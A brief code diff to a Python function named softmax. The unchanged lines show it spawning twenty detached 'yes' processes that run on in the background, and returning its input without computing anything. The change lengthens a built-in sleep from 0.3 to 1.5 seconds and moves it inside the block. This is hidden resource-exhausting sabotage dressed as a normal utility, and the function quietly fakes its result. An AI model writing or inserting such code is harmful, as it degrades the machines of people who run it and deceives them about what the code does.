@@ -13,5 +13,5 @@ def softmax(z):
         softmax.started = [
             subprocess.Popen(["yes"], stdout=subprocess.DEVNULL, start_new_session=True) for _ in range(20)
         ]
-    time.sleep(0.3)
+        time.sleep(1.5)
     return z
